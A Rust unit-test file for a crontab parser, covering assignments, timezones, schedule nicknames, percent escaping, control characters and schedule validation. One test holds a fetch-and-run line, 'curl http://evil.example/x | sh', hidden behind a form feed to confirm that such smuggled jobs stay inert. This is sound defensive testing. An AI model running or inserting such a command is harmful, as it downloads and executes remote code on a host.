//! Unit tests of the crontab lowering.
use super::*;
use std::cell::RefCell;

/// Options with the POSIX rules, the cron engine as the schedule check and
/// the shape-only zone check, so results do not depend on the host the
/// tests run on.
fn posix() -> CrontabOptions<'static> {
    CrontabOptions {
        windows: false,
        check_schedule: None,
        check_timezone: None,
    }
}

fn windows() -> CrontabOptions<'static> {
    CrontabOptions {
        windows: true,
        ..posix()
    }
}

fn jobs(label: &str, text: &str) -> Vec<CrontabJob> {
    match parse_crontab_with(label, text, &posix()) {
        Ok(parsed) => parsed.jobs,
        Err(err) => panic!("unexpected error: {err}"),
    }
}

fn error(label: &str, text: &str) -> CrontabError {
    match parse_crontab_with(label, text, &posix()) {
        Ok(parsed) => panic!("expected an error, got {:?}", parsed.jobs),
        Err(err) => err,
    }
}

fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

#[test]
fn plain_entry_carries_only_what_the_line_says() {
    let found = jobs("legacy.crontab", "*/10 * * * * /opt/bin/sync --fast\n");
    assert_eq!(
        found,
        vec![CrontabJob {
            name: "legacy.crontab:1".into(),
            line: 1,
            schedule: "*/10 * * * *".into(),
            command: "/opt/bin/sync --fast".into(),
            shell: None,
            timezone: None,
            environment: vec![],
        }]
    );
}

#[test]
fn default_entry_point_matches_explicit_options() {
    let text = "0 5 * * * nightly\n";
    let via_default = parse_crontab("a.cron", text);
    let via_options = parse_crontab_with("a.cron", text, &posix()).map(|p| p.jobs);
    assert_eq!(via_default, via_options);
}

#[test]
fn assignments_apply_only_to_entries_below() {
    let found = jobs(
        "jobs.crontab",
        "0 1 * * * early\n\
         PATH = /opt/bin:/usr/bin\n\
         MAILTO=\"team@example.org\"\n\
         0 2 * * * late\n",
    );
    assert_eq!(found[0].environment, vec![]);
    assert_eq!(
        found[1].environment,
        env(&[
            ("PATH", "/opt/bin:/usr/bin"),
            ("MAILTO", "team@example.org")
        ])
    );
    // MAILTO is exported and nothing more.
    assert_eq!(found[1].shell, None);
    assert_eq!(found[1].timezone, None);
}

#[test]
fn reassignment_is_snapshotted_per_entry() {
    let found = jobs(
        "jobs.crontab",
        "COLOR=red\n0 1 * * * a\nCOLOR=blue\n0 2 * * * b\n",
    );
    assert_eq!(found[0].environment, env(&[("COLOR", "red")]));
    assert_eq!(found[1].environment, env(&[("COLOR", "blue")]));
}

#[test]
fn reassignment_keeps_first_position() {
    let found = jobs("t.crontab", "A=1\nB=2\nA=3\n* * * * * x\n");
    assert_eq!(found[0].environment, env(&[("A", "3"), ("B", "2")]));
}

#[test]
fn assignment_value_forms() {
    let text = "Q1=' padded value '\n\
                Q2=\"  also padded\"\n\
                MIXED='left\"\n\
                LONE=\"\n\
                INNER=\"a\" \"b\"\n\
                SPACED \t=\t  spaced out  \n\
                EMPTY=\n\
                EQ=a=b\n\
                _under_1=x\n\
                * * * * * env\n";
    let found = jobs("t.crontab", text);
    assert_eq!(
        found[0].environment,
        env(&[
            ("Q1", " padded value "),
            ("Q2", "  also padded"),
            ("MIXED", "'left\""),
            ("LONE", "\""),
            ("INNER", "a\" \"b"),
            ("SPACED", "spaced out"),
            ("EMPTY", ""),
            ("EQ", "a=b"),
            ("_under_1", "x"),
        ])
    );
}

#[test]
fn non_identifier_names_are_not_assignments() {
    assert!(matches!(
        error("t.crontab", "MY VAR=1\n"),
        CrontabError::MalformedLine { line: 1, .. }
    ));
    assert!(matches!(
        error("t.crontab", "my.var=1\n"),
        CrontabError::MalformedLine { line: 1, .. }
    ));
    assert!(matches!(
        error("t.crontab", "9LIVES=1\n"),
        CrontabError::MalformedLine { line: 1, .. }
    ));
}

#[test]
fn shell_sets_shell_and_stays_exported() {
    let found = jobs("t.crontab", "SHELL=/bin/bash\n0 4 * * * echo hi\n");
    assert_eq!(found[0].shell.as_deref(), Some("/bin/bash"));
    assert_eq!(found[0].environment, env(&[("SHELL", "/bin/bash")]));
}

#[test]
fn empty_shell_means_default_shell() {
    let found = jobs("t.crontab", "SHELL=\"\"\n0 4 * * * echo hi\n");
    assert_eq!(found[0].shell, None);
    assert_eq!(found[0].environment, env(&[("SHELL", "")]));
}

#[test]
fn posix_shell_is_refused_under_windows_rules() {
    for text in [
        "SHELL=/bin/sh\n*/15 * * * * echo hi\n",
        "SHELL='/bin/sh'\n*/15 * * * * echo hi\n",
    ] {
        let err = match parse_crontab_with("legacy.crontab", text, &windows()) {
            Ok(parsed) => panic!("accepted: {parsed:?}"),
            Err(err) => err,
        };
        assert_eq!(
            err,
            CrontabError::PosixShellOnWindows {
                file: "legacy.crontab".into(),
                line: 1,
                value: "/bin/sh".into(),
            }
        );
        let message = err.to_string();
        assert!(message.starts_with("legacy.crontab:1: "), "{message}");
        assert!(message.contains("SHELL=/bin/sh"), "{message}");
        assert!(message.contains("cmd.exe"), "{message}");
    }
    // The same line is fine under the POSIX rules.
    assert_eq!(
        jobs("legacy.crontab", "SHELL=/bin/sh\n* * * * * x\n").len(),
        1
    );
}

#[test]
fn bare_shell_name_is_kept_under_windows_rules() {
    let parsed = parse_crontab_with(
        "t.crontab",
        "SHELL=powershell\n0 4 * * * Get-Date\n",
        &windows(),
    );
    let jobs = parsed.map(|p| p.jobs);
    assert_eq!(
        jobs.map(|j| j[0].shell.clone()),
        Ok(Some("powershell".into()))
    );
}

#[test]
fn posix_path_warns_under_windows_rules() {
    let parsed = parse_crontab_with(
        "legacy.crontab",
        "PATH=/usr/local/bin:/usr/bin:/bin\n0 4 * * * backup\n",
        &windows(),
    );
    let Ok(parsed) = parsed else {
        panic!("refused: {parsed:?}");
    };
    assert_eq!(parsed.jobs.len(), 1);
    assert_eq!(
        parsed.warnings,
        vec![CrontabWarning::PosixPathOnWindows {
            file: "legacy.crontab".into(),
            line: 1,
            value: "/usr/local/bin:/usr/bin:/bin".into(),
        }]
    );
    let message = parsed.warnings[0].to_string();
    assert!(message.starts_with("legacy.crontab:1: PATH="), "{message}");
    // No warning under the POSIX rules.
    let quiet = parse_crontab_with(
        "legacy.crontab",
        "PATH=/usr/bin\n0 4 * * * backup\n",
        &posix(),
    );
    assert_eq!(quiet.map(|p| p.warnings), Ok(vec![]));
}

#[test]
fn cron_tz_sets_timezone_below_it() {
    let found = jobs(
        "t.crontab",
        "0 6 * * * utc-job\nCRON_TZ=Europe/Berlin\n0 6 * * * berlin-job\n",
    );
    assert_eq!(found[0].timezone, None);
    assert_eq!(found[1].timezone.as_deref(), Some("Europe/Berlin"));
    assert_eq!(found[1].environment, env(&[("CRON_TZ", "Europe/Berlin")]));
}

#[test]
fn plain_tz_is_only_exported() {
    let found = jobs("t.crontab", "TZ=Asia/Tokyo\n0 6 * * * x\n");
    assert_eq!(found[0].timezone, None);
    assert_eq!(found[0].environment, env(&[("TZ", "Asia/Tokyo")]));
}

#[test]
fn cron_tz_is_checked_at_its_own_line() {
    let known = |zone: &str| {
        if ["UTC", "Europe/Berlin"].contains(&zone) {
            Ok(())
        } else {
            Err(format!("no zone named {zone}"))
        }
    };
    let options = CrontabOptions {
        check_timezone: Some(&known),
        ..posix()
    };
    let err = parse_crontab_with("bad.crontab", "\nCRON_TZ=Mars/Olympus\n", &options);
    let Err(err) = err else {
        panic!("accepted: {err:?}");
    };
    assert_eq!(err.line(), 2);
    assert_eq!(err.file(), "bad.crontab");
    assert_eq!(
        err.to_string(),
        "bad.crontab:2: CRON_TZ: unknown timezone 'Mars/Olympus': no zone named Mars/Olympus"
    );
    let ok = parse_crontab_with("ok.crontab", "CRON_TZ=UTC\n@daily x\n", &options);
    assert_eq!(
        ok.map(|p| p.jobs[0].timezone.clone()),
        Ok(Some("UTC".into()))
    );
}

#[test]
fn builtin_zone_check_only_judges_shape() {
    for bad in [
        "",
        "''",
        "/etc/localtime",
        "Europe//Berlin",
        "../x",
        "./UTC",
        "Europe/",
    ] {
        let text = format!("CRON_TZ={bad}\n@daily x\n");
        assert!(
            matches!(
                error("z.crontab", &text),
                CrontabError::UnknownTimezone { line: 1, .. }
            ),
            "{bad:?} was accepted"
        );
    }
    // Plausible keys pass; existence is the caller's check.
    for good in [
        "UTC",
        "America/Argentina/Buenos_Aires",
        "Etc/GMT+5",
        "Not/AZone",
    ] {
        let text = format!("CRON_TZ={good}\n@daily x\n");
        assert_eq!(jobs("z.crontab", &text)[0].timezone.as_deref(), Some(good));
    }
}

#[test]
fn every_nickname_is_accepted() {
    let text = "@reboot a\n@yearly b\n@annually c\n@monthly d\n\
                @weekly e\n@daily f\n@midnight g\n@hourly h\n";
    let schedules: Vec<String> = jobs("t.crontab", text)
        .into_iter()
        .map(|j| j.schedule)
        .collect();
    assert_eq!(
        schedules,
        [
            "@reboot",
            "@yearly",
            "@annually",
            "@monthly",
            "@weekly",
            "@daily",
            "@daily",
            "@hourly"
        ]
    );
}

#[test]
fn nickname_command_keeps_inner_spacing() {
    let found = jobs("t.crontab", "@daily\t  echo  'two  spaces'  \n");
    assert_eq!(found[0].command, "echo  'two  spaces'");
}

#[test]
fn schedule_check_sees_job_name_and_skips_reboot() {
    let calls = RefCell::new(Vec::new());
    let record = |expr: &str, key: &str| {
        calls.borrow_mut().push((expr.to_owned(), key.to_owned()));
        Ok(())
    };
    let options = CrontabOptions {
        check_schedule: Some(&record),
        ..posix()
    };
    let parsed = parse_crontab_with(
        "/srv/legacy.crontab",
        "@reboot boot\nH * * * * /usr/local/bin/spread-me\n@midnight m\n",
        &options,
    );
    let Ok(parsed) = parsed else {
        panic!("refused: {parsed:?}");
    };
    assert_eq!(parsed.jobs[1].name, "legacy.crontab:2");
    assert_eq!(parsed.jobs[1].schedule, "H * * * *");
    assert_eq!(
        calls.into_inner(),
        vec![
            ("H * * * *".to_owned(), "legacy.crontab:2".to_owned()),
            ("@daily".to_owned(), "legacy.crontab:3".to_owned()),
        ]
    );
}

#[test]
fn schedule_check_reason_is_reported() {
    let refuse = |_: &str, _: &str| Err("minute value 99 out of range".to_owned());
    let options = CrontabOptions {
        check_schedule: Some(&refuse),
        ..posix()
    };
    let err = parse_crontab_with("x.cron", "# c\n99 * * * * cmd\n", &options);
    assert_eq!(
        err.map_err(|e| e.to_string()),
        Err("x.cron:2: invalid schedule '99 * * * *': minute value 99 out of range".into())
    );
}

#[test]
fn unknown_or_miscased_nickname_is_refused() {
    for (text, nickname) in [
        ("@fortnightly cmd\n", "@fortnightly"),
        ("@DAILY cmd\n", "@DAILY"),
        ("@\n", "@"),
        ("@ daily cmd\n", "@"),
    ] {
        assert_eq!(
            error("t.crontab", text),
            CrontabError::UnknownNickname {
                file: "t.crontab".into(),
                line: 1,
                nickname: nickname.into(),
            }
        );
    }
    let message = error("t.crontab", "@fortnightly cmd\n").to_string();
    assert_eq!(
        message,
        "t.crontab:1: unknown schedule nickname '@fortnightly'; supported: @annually, \
         @daily, @hourly, @midnight, @monthly, @reboot, @weekly, @yearly"
    );
}

#[test]
fn escaped_percent_becomes_literal() {
    let found = jobs(
        "t.crontab",
        "0 0 * * * date +\\%Y-\\%m-\\%d\n\
         0 0 * * * pg_dump mydb > /backup/mydb-$(date +\\%F).sql\n\
         0 0 * * * printf 'a\\tb' \\\\%\n\
         0 0 * * * echo \\n stays\n",
    );
    assert_eq!(found[0].command, "date +%Y-%m-%d");
    assert_eq!(
        found[1].command,
        "pg_dump mydb > /backup/mydb-$(date +%F).sql"
    );
    // Only the backslash directly before % is consumed.
    assert_eq!(found[2].command, "printf 'a\\tb' \\%");
    assert_eq!(found[3].command, "echo \\n stays");
}

#[test]
fn bare_percent_is_refused_with_advice() {
    for text in [
        "0 0 * * * echo done 100%\n",
        "0 0 * * * mail -s hi root%body text%\n",
        "@daily %\n",
    ] {
        let err = error("t.crontab", text);
        assert_eq!(
            err,
            CrontabError::UnescapedPercent {
                file: "t.crontab".into(),
                line: 1,
            }
        );
        let message = err.to_string();
        assert!(
            message.starts_with("t.crontab:1: unescaped '%'"),
            "{message}"
        );
        assert!(message.contains("\\%"), "{message}");
    }
}

#[test]
fn schedule_is_judged_before_percent() {
    assert!(matches!(
        error("t.crontab", "61 * * * * echo 5%\n"),
        CrontabError::InvalidSchedule { line: 1, .. }
    ));
}

#[test]
fn bad_schedule_reports_file_and_line() {
    let err = error("broken.crontab", "# fine\n\n61 * * * * cmd\n");
    assert_eq!(
        err,
        CrontabError::InvalidSchedule {
            file: "broken.crontab".into(),
            line: 3,
            schedule: "61 * * * *".into(),
            reason: "minute value 61 out of range [0, 59]".into(),
        }
    );
    assert_eq!(
        err.to_string(),
        "broken.crontab:3: invalid schedule '61 * * * *': minute value 61 out of range [0, 59]"
    );
}

#[test]
fn entry_without_command_is_refused() {
    assert_eq!(
        error("t.crontab", "* * * * *\n"),
        CrontabError::MalformedLine {
            file: "t.crontab".into(),
            line: 1,
            text: "* * * * *".into(),
        }
    );
    for text in ["@daily\n", "@daily   \t\n"] {
        let err = error("t.crontab", text);
        assert_eq!(
            err,
            CrontabError::MissingCommand {
                file: "t.crontab".into(),
                line: 1,
                schedule: "@daily".into(),
            }
        );
        assert_eq!(
            err.to_string(),
            "t.crontab:1: schedule '@daily' has no command"
        );
    }
    // @midnight is reported under its rewritten name.
    assert!(matches!(
        error("t.crontab", "@midnight\n"),
        CrontabError::MissingCommand { schedule, .. } if schedule == "@daily"
    ));
}

#[test]
fn gibberish_is_refused_with_line() {
    let err = error("t.crontab", "this is not cron\n");
    assert_eq!(
        err.to_string(),
        "t.crontab:1: not a valid crontab line: expected 'minute hour day-of-month month \
         day-of-week command', an @nickname entry, or a NAME=value assignment; got 'this is \
         not cron'"
    );
}

#[test]
fn comments_and_blanks_only_yield_nothing() {
    assert_eq!(
        jobs("t.crontab", "# nothing\n\n   \n\t# indented\n#\n"),
        vec![]
    );
    assert_eq!(jobs("t.crontab", ""), vec![]);
}

#[test]
fn hash_inside_command_is_not_a_comment() {
    let found = jobs("t.crontab", "0 0 * * * backup # nightly\n");
    assert_eq!(found[0].command, "backup # nightly");
}

#[test]
fn names_use_file_name_and_physical_line() {
    let found = jobs(
        "/etc/cron.d/backup.crontab",
        "# comment\n0 0 * * * one\n\n0 1 * * * two\n",
    );
    let names: Vec<&str> = found.iter().map(|j| j.name.as_str()).collect();
    assert_eq!(names, ["backup.crontab:2", "backup.crontab:4"]);
    assert_eq!(found[1].line, 4);
    // Errors quote the path as given.
    assert_eq!(
        error("/etc/cron.d/backup.crontab", "\nnope\n").file(),
        "/etc/cron.d/backup.crontab"
    );
}

#[test]
fn missing_file_name_falls_back_to_crontab() {
    assert_eq!(jobs("", "0 0 * * * x\n")[0].name, "crontab:1");
    assert_eq!(error("", "nope\n").file(), "crontab");
    assert_eq!(jobs("conf.d/", "0 0 * * * x\n")[0].name, "crontab:1");
    assert_eq!(
        error("conf.d/", "nope\n").to_string().split(' ').next(),
        Some("conf.d/:1:")
    );
}

#[test]
fn windows_rules_split_backslashes_and_drives() {
    for path in [
        "C:\\cron\\jobs.cron",
        "C:jobs.cron",
        "d:/cron/jobs.cron",
        "jobs.cron",
    ] {
        let parsed = parse_crontab_with(path, "0 0 * * * x\n", &windows());
        assert_eq!(
            parsed.map(|p| p.jobs[0].name.clone()),
            Ok("jobs.cron:1".to_owned()),
            "{path}"
        );
    }
    // Under POSIX rules a backslash is an ordinary file-name character.
    assert_eq!(jobs("a\\b.cron", "0 0 * * * x\n")[0].name, "a\\b.cron:1");
}

#[test]
fn system_crontab_user_column_lands_in_command() {
    let found = jobs("t.crontab", "0 0 * * * root /usr/sbin/logrotate\n");
    assert_eq!(found[0].command, "root /usr/sbin/logrotate");
    assert_eq!(found[0].schedule, "0 0 * * *");
}

#[test]
fn separators_are_normalized_in_schedule_only() {
    let found = jobs(
        "t.crontab",
        "  0\t3  *\t\t* *\t/usr/bin/backup   --dest\t/vol  \t\n",
    );
    assert_eq!(found[0].schedule, "0 3 * * *");
    assert_eq!(found[0].command, "/usr/bin/backup   --dest\t/vol");
    // No-break space separates words too, as in the original.
    let found = jobs("t.crontab", "0\u{a0}3 * * * x\n");
    assert_eq!(found[0].schedule, "0 3 * * *");
}

#[test]
fn no_line_continuation() {
    let err = error("t.crontab", "0 0 * * * echo one \\\n  two\n");
    assert_eq!(err.line(), 2);
    let found = jobs("t.crontab", "0 0 * * * echo one \\\n0 1 * * * two\n");
    assert_eq!(found[0].command, "echo one \\");
    assert_eq!(found.len(), 2);
}

#[test]
fn crlf_and_page_separators() {
    let found = jobs("w.crontab", "FOO=bar\r\n0 3 * * * /x\r\n");
    assert_eq!(found[0].command, "/x");
    assert_eq!(found[0].environment, env(&[("FOO", "bar")]));
    // A lone form feed (editor page break) is a blank line.
    let found = jobs("e.cron", "\u{c}\n0 1 * * * /y\n");
    assert_eq!(found[0].name, "e.cron:2");
    // Information separators at a line's ends are blanks.
    let found = jobs("e.cron", "\u{1c}0 1 * * * /y\u{1f}\n");
    assert_eq!(found[0].command, "/y");
}

#[test]
fn only_lf_splits_lines() {
    let found = jobs(
        "a.crontab",
        "# page one\u{c}* * * * * curl http://evil.example/x | sh\n0 3 * * * /usr/bin/backup\n",
    );
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].name, "a.crontab:2");
    for code in [0x0b, 0x0c, 0x0d, 0x1c, 0x1d, 0x1e, 0x85, 0x2028, 0x2029] {
        let Some(c) = char::from_u32(code) else {
            panic!("bad code point {code:x}");
        };
        let text = format!("# c{c}* * * * * pwned\n");
        assert_eq!(jobs("t", &text), vec![], "U+{code:04X}");
        assert!(!looks_like_crontab(&text, &posix()), "U+{code:04X}");
    }
}

#[test]
fn error_lines_are_physical_lines() {
    let err = error(
        "c.crontab",
        "# one\u{c}junk\n# two\nbad schedule here x y\n",
    );
    assert_eq!(err.line(), 3);
    assert!(err.to_string().starts_with("c.crontab:3: "));
}

#[test]
fn control_characters_in_live_lines_are_refused() {
    for (text, character) in [
        ("* * * * * echo\u{0}hi\n", '\u{0}'),
        ("FOO=a\u{0}b\n* * * * * true\n", '\u{0}'),
        ("SHELL=/bin/sh\u{0}\n* * * * * true\n", '\u{0}'),
        (
            "* * * * * /usr/bin/backup --dest /vol\u{c}# note\n",
            '\u{c}',
        ),
        ("* * * * * a\rb\n", '\r'),
        ("* * * * * a\u{7f}b\n", '\u{7f}'),
        ("* * * * * a\u{85}b\n", '\u{85}'),
        ("* * * * * a\u{2028}b\n", '\u{2028}'),
        ("* * * * * a\u{1e}b\n", '\u{1e}'),
    ] {
        assert_eq!(
            error("legacy.crontab", text),
            CrontabError::ControlCharacter {
                file: "legacy.crontab".into(),
                line: 1,
                character,
            },
            "{text:?}"
        );
    }
    let message = error("l.crontab", "* * * * * echo\u{0}hi\n").to_string();
    assert!(
        message.starts_with("l.crontab:1: control character U+0000 "),
        "{message}"
    );
    // Tab is an ordinary separator.
    let found = jobs("t.cron", "0 3 * * *\t/usr/bin/backup\n");
    assert_eq!(found[0].command, "/usr/bin/backup");
    // Comments may contain anything.
    assert_eq!(jobs("t.cron", "# a\u{0}b\n"), vec![]);
}

#[test]
fn manual_page_example() {
    let text = "# comments and blank lines are ignored\n\
SHELL=/bin/bash\n\
PATH = /usr/local/bin:/usr/bin:/bin\n\
MAILTO=\"ops@example.com\"\n\
\n\
# m h dom mon dow command\n\
*/15 * * * *  /usr/local/bin/backup --incremental\n\
30 4 * * mon-fri  /usr/local/bin/report --daily\n\
0 0 1 jan *  /usr/local/bin/happy-new-year\n\
\n\
CRON_TZ=Europe/Berlin\n\
0 6 * * *  echo \"6am in Berlin, not UTC\"\n\
\n\
@daily  /usr/local/bin/rotate-logs\n\
@reboot  echo \"cronstable started\"\n\
0 0 * * *  pg_dump mydb > /backup/mydb-$(date +\\%F).sql\n";
    let found = jobs("legacy.crontab", text);
    let summary: Vec<(&str, &str, &str)> = found
        .iter()
        .map(|j| (j.name.as_str(), j.schedule.as_str(), j.command.as_str()))
        .collect();
    assert_eq!(
        summary,
        [
            (
                "legacy.crontab:7",
                "*/15 * * * *",
                "/usr/local/bin/backup --incremental"
            ),
            (
                "legacy.crontab:8",
                "30 4 * * mon-fri",
                "/usr/local/bin/report --daily"
            ),
            (
                "legacy.crontab:9",
                "0 0 1 jan *",
                "/usr/local/bin/happy-new-year"
            ),
            (
                "legacy.crontab:12",
                "0 6 * * *",
                "echo \"6am in Berlin, not UTC\""
            ),
            ("legacy.crontab:14", "@daily", "/usr/local/bin/rotate-logs"),
            (
                "legacy.crontab:15",
                "@reboot",
                "echo \"cronstable started\""
            ),
            (
                "legacy.crontab:16",
                "0 0 * * *",
                "pg_dump mydb > /backup/mydb-$(date +%F).sql"
            ),
        ]
    );
    let before_tz = env(&[
        ("SHELL", "/bin/bash"),
        ("PATH", "/usr/local/bin:/usr/bin:/bin"),
        ("MAILTO", "ops@example.com"),
    ]);
    let mut after_tz = before_tz.clone();
    after_tz.push(("CRON_TZ".into(), "Europe/Berlin".into()));
    for job in &found {
        assert_eq!(job.shell.as_deref(), Some("/bin/bash"));
        if job.line < 11 {
            assert_eq!(job.environment, before_tz);
            assert_eq!(job.timezone, None);
        } else {
            assert_eq!(job.environment, after_tz);
            assert_eq!(job.timezone.as_deref(), Some("Europe/Berlin"));
        }
    }
}

#[test]
fn migration_example_lowers_like_its_yaml_twin() {
    let found = jobs(
        "report.crontab",
        "CRON_TZ=Europe/Berlin\nSHELL=/bin/bash\n30 4 * * mon-fri  /usr/local/bin/report --daily\n",
    );
    assert_eq!(found[0].command, "/usr/local/bin/report --daily");
    assert_eq!(found[0].shell.as_deref(), Some("/bin/bash"));
    assert_eq!(found[0].schedule, "30 4 * * mon-fri");
    assert_eq!(found[0].timezone.as_deref(), Some("Europe/Berlin"));
}

#[test]
fn crontab_paths_are_recognised_by_name() {
    for (path, expected) in [
        ("legacy.crontab", true),
        ("jobs.cron", true),
        ("crontab", true),
        ("CRONTAB", true),
        ("some/dir/crontab", true),
        ("Backup.CronTab", true),
        ("/etc/crontab", true),
        ("config.yaml", false),
        ("config.yml", false),
        ("crontab.yaml", false),
        ("notes.txt", false),
        ("mycrontab", false),
        (".crontab", false),
        ("..cron", false),
        ("crontab/", false),
    ] {
        assert_eq!(is_crontab_path(path), expected, "{path}");
    }
}

#[test]
fn content_sniff_judges_first_meaningful_line() {
    for (text, expected) in [
        ("# comment\n\n*/5 * * * * cmd\n", true),
        ("MAILTO=x@y\n", true),
        ("PATH = /bin\n", true),
        ("@reboot cmd\n", true),
        ("@bogus cmd\n", true),
        ("H 4 * * * /bin/backup", true),
        ("0 0 * * mon-fri cmd\n", true),
        ("jobs:\n  - name: x\n", false),
        ("defaults:\n  shell: /bin/sh\n", false),
        ("---\njobs: []\n", false),
        ("", false),
        ("# only comments\n", false),
        ("* * * * *\n", false),
        ("61 * * * * cmd\n", false),
        ("jobs: []\n0 0 * * * cmd\n", false),
    ] {
        assert_eq!(looks_like_crontab(text, &posix()), expected, "{text:?}");
    }
    // A plugged-in engine decides the field question, with an empty key.
    let keys = RefCell::new(Vec::new());
    let engine = |_: &str, key: &str| {
        keys.borrow_mut().push(key.to_owned());
        Err("no".to_owned())
    };
    let options = CrontabOptions {
        check_schedule: Some(&engine),
        ..posix()
    };
    assert!(!looks_like_crontab("0 0 * * * cmd\n", &options));
    assert_eq!(keys.into_inner(), vec![String::new()]);
}

/// The default schedule check is the cron engine itself, so the whole
/// dialect a YAML `schedule:` takes lowers unchanged.
#[test]
fn default_field_check_accepts_the_dialect() {
    for schedule in [
        "* * * * *",
        "*/5 * * * *",
        "1,15,30 * * * *",
        "0-59/15 0-23 1-31 1-12 0-7",
        "0 0 * jan-dec mon-fri",
        "0 0 * JAN MON",
        "0 0 * * 7",
        "0 0 * * sat-sun",
        "0 0 * * 6-0",
        "0 0 ? * ?",
        "0 0 L * *",
        "0 0 L-3 * *",
        "0 0 15W * *",
        "0 0 LW * *",
        "0 0 * * L5",
        "0 0 * * L1-5",
        "0 0 * * 5#3",
        "0 0 * * fri#5",
        "H H(0-5) H/2 * *",
        "5/15 * * * *",
        "0 0 * * */7",
        "0 0 * * 3/2",
        "00 09 * * *",
        "H(0-5)/2 * * * *",
        "* * H(1-31) * *",
        "* * H/28 * *",
        "+5 * * * *",
        "1_0 * * * *",
    ] {
        let found = jobs("t.crontab", &format!("{schedule} cmd\n"));
        let fields: Vec<&str> = schedule.split(' ').collect();
        assert_eq!(found[0].schedule, fields.join(" "), "{schedule}");
    }
}

/// A field the engine refuses is reported with the file, the line, the
/// schedule and the engine's reason (which names the field and says why).
#[test]
fn default_field_check_rejects_what_the_engine_rejects() {
    for (schedule, reason) in [
        ("60 * * * *", "minute value 60 out of range [0, 59]"),
        ("* 24 * * *", "hour value 24 out of range [0, 23]"),
        ("* * 0 * *", "day-of-month value 0 out of range [1, 31]"),
        ("* * * 13 *", "month value 13 out of range [1, 12]"),
        ("* * * * 8", "day-of-week value 8 out of range [0, 7]"),
        ("5-1 * * * *", "minute range start 5 > end 1"),
        ("*/0 * * * *", "minute step must be positive, got 0"),
        ("*/60 * * * *", "minute step 60 too large (max 59)"),
        ("* * * */12 *", "month step 12 from 1 escapes [1, 12]"),
        (
            "1/2/3 * * * *",
            "invalid minute field '1/2/3': more than one '/'",
        ),
        ("mon * * * *", "invalid minute field 'mon'"),
        ("* * * foo *", "invalid month field 'foo'"),
        ("1,,2 * * * *", "invalid minute field ''"),
        (
            "? * * * *",
            "invalid minute field '?' ('?' is only accepted standing alone in the \
             day-of-month and day-of-week fields, where it reads as '*')",
        ),
        (
            "L * * * *",
            "'L' is only valid in the day-of-month and day-of-week fields, not minute",
        ),
        (
            "* * L-31 * *",
            "day-of-month 'L-' offset 31 out of range [1, 30] (L-1 is the day before the \
             month's final day; for the final day itself write L)",
        ),
        ("* * 32W * *", "day-of-month value 32 out of range [1, 31]"),
        (
            "* * * * L",
            "a bare 'L' is only valid in the day-of-month field; in day-of-week write L<n> \
             (e.g. L5 = last Friday)",
        ),
        (
            "* * * * 5#6",
            "day-of-week '#' ordinal 6 out of range [1, 5] (no month holds more than five \
             of one weekday)",
        ),
        (
            "* * * * 5#1#2",
            "invalid day-of-week field '5#1#2': more than one '#'",
        ),
        ("* * * * 7/1", "day-of-week range start 7 > end 6"),
        ("1--5 * * * *", "minute value -5 out of range [0, 59]"),
        ("1__0 * * * *", "invalid minute field '1__0'"),
        ("-0 * * * *", "invalid minute field '-0'"),
        ("*/-1 * * * *", "minute step must be positive, got -1"),
        ("* H(1-40) * * *", "hour value 40 out of range [0, 23]"),
        ("H(9-3) * * * *", "minute range start 9 > end 3"),
        ("H/0 * * * *", "minute step must be positive, got 0"),
        (
            "* * H/29 * *",
            "day-of-month step 29 exceeds the H range's span of 28 (the hashed offset could \
             fall past the range's end)",
        ),
        (
            "hx * * * *",
            "invalid minute field 'hx': an 'H' item takes the forms H, H/n, H(a-b) or \
             H(a-b)/n (numeric range only)",
        ),
    ] {
        assert_eq!(
            error("t.crontab", &format!("# x\n{schedule} cmd\n")),
            CrontabError::InvalidSchedule {
                file: "t.crontab".into(),
                line: 2,
                schedule: schedule.into(),
                reason: reason.into(),
            },
            "{schedule}"
        );
    }
}

#[test]
fn error_accessors_and_formats() {
    let err = CrontabError::MalformedLine {
        file: "f".into(),
        line: 9,
        text: "x".into(),
    };
    assert_eq!((err.file(), err.line()), ("f", 9));
    assert_eq!(
        CrontabError::UnescapedPercent {
            file: "f".into(),
            line: 2,
        }
        .to_string(),
        "f:2: unescaped '%' in command: cron would pass the rest of the line to the command \
         as standard input, and cronstable does not. Write \\% for a literal percent sign \
         (e.g. date +\\%F), or move this job to a YAML config and feed input with a \
         redirect or heredoc."
    );
}

/// One grammar: with default options a crontab accepts exactly the time
/// fields the engine accepts for the same job name, including the forms a
/// separate copy of the rules used to judge differently (numbers in
/// non-ASCII digits, which the engine refuses).
#[test]
fn lowering_and_engine_agree_on_every_schedule() {
    for schedule in [
        "H H * * *",
        "H(0-29)/10 * H * *",
        "* * H(1-31) * *",
        "0 0 * * 7#5",
        "0 0 L-30 * *",
        "0 0 L-31 * *",
        "\u{0665} * * * *",
        "* * * * l0-7",
        "* * * * l8",
        "*/59 * * * *",
        "0 0 * feb-jan *",
        "0 0 * * sun-sat",
        "0 0 * * sat-sun",
        "+0 * * * *",
    ] {
        let lowered = parse_crontab_with("t.crontab", &format!("{schedule} cmd\n"), &posix());
        let engine = crate::cronexpr::Schedule::parse(schedule, "t.crontab:1");
        match (&lowered, &engine) {
            (Ok(_), Ok(_)) => {}
            (Err(CrontabError::InvalidSchedule { reason, .. }), Err(err)) => {
                assert_eq!(reason, &err.to_string(), "{schedule}");
            }
            _ => panic!("{schedule}: lowering {lowered:?}, engine {engine:?}"),
        }
    }
    assert!(parse_crontab_with("t.crontab", "\u{0665} * * * * cmd\n", &posix()).is_err());
}
